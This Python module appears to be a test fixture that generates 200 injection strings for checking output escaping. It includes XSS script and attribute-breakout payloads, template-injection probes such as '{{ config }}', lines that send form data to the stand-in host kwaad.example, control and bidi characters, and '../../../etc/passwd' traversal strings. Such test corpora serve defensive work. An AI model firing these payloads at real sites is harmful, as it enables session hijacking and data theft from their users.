"""Two hundred texts that would do something if a page took them for more than text."""

from __future__ import annotations

import itertools

_SCRIPTS = (
    "<script>window.broken=1</script>",
    "</title><script>broken()</script>",
    "<img src=x onerror=broken()>",
    "<svg onload=broken()>",
    "<svg><animate onbegin=broken() attributeName=x>",
    "<iframe srcdoc='<script>broken()</script>'>",
    "<body onload=broken()>",
    "<details open ontoggle=broken()>",
    "<math><mi xlink:href=javascript:broken()>",
    "<a href=javascript:broken()>klik</a>",
    "<form action=//kwaad.example>",
    "<input autofocus onfocus=broken()>",
    "<base href=//kwaad.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//kwaad>",
    "<style>*{display:none}</style>",
    "<template><script>broken()</script>",
    "<!-- <script>broken()",
    "--><script>broken()</script>",
    "<![CDATA[<script>broken()]]>",
)
_BREAKOUTS = (
    '" onmouseover="broken()',
    "' onmouseover='broken()",
    '"><b id=broken>',
    "'><b id=broken>",
    '" autofocus onfocus="broken()" x="',
    "` onclick=broken() x=`",
    '" hx-get="//kwaad.example" x="',
    '" data-key="v" x="',
    '" formaction="/leiden/doen/einde" x="',
    '\\"-broken()-\\"',
    "</textarea><script>broken()</script>",
    "</option><script>broken()</script>",
    "</style><script>broken()</script>",
    "</svg><script>broken()</script>",
    "&#60;script&#62;broken()&#60;/script&#62;",
    "&lt;script&gt;broken()",
    "%3Cscript%3Ebroken()%3C/script%3E",
    "\\u003cscript\\u003ebroken()",
    "javascript:broken()",
    "data:text/html,<script>broken()</script>",
)
_TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% for x in (1).__class__.__mro__ %}",
    "{# weg #}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{ ''.__class__ }}",
    "{{ config }}",
    "%(name)s %s %d",
    "{0} {eerste} {a}",
)
_SIGNS = (
    "a\x00b",
    "a\x1b[31mrood",
    "a\x07b",
    "a\x7fb",
    "a\u202etxt.exe",
    "a\u2066b\u2069",
    "a\u200bb\u200d",
    "\ufeffkop",
    "a\u2028b\u2029c",
    "a\u0085b",
    "a\tb",
    "Z\u0351\u0358a\u0334\u0353lgo\u0336",
    "\ud7ff\ue000prive",
    "👩‍👩‍👧‍👦 gezin",
    "اسم شخص",
    "🏳️‍🌈" * 5,
    "İstanbul ſß",
    "＜script＞broken()",
    "..\\..\\..\\etc",
    "../../../etc/passwd",
)


def payloads() -> list[str]:
    """All of them, each once; the later ones are pairs of the earlier."""
    single = [*_SCRIPTS, *_BREAKOUTS, *_TEMPLATES, *_SIGNS]
    pairs = (f"{a}{b}" for a, b in itertools.product(_BREAKOUTS, (*_TEMPLATES, *_SCRIPTS[:1])))
    return [*single, *itertools.islice(pairs, 200 - len(single))]
